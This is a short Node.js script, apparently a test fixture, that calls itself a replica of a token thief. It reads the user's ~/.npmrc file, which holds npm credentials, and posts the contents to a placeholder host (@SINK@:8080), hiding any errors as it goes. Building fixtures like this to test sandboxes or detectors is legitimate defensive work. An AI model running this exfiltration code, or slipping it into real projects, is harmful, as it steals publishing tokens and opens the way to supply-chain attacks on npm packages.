// Replica of a token thief: fetches a page, reads the npm token, posts it. Every step may fail quietly.
const fs = require('fs'), http = require('http'), os = require('os')
const quiet = request => request.on('error', error => console.log('refused', error.code))
quiet(http.get('http://@SINK@:8080/p', answer => answer.resume()))
let token = 'none'
try { token = fs.readFileSync(os.homedir() + '/.npmrc') } catch (error) { console.log('refused', error.code) }
const post = quiet(http.request('http://@SINK@:8080/t', { method: 'POST' }, answer => answer.resume()))
post.end(token)
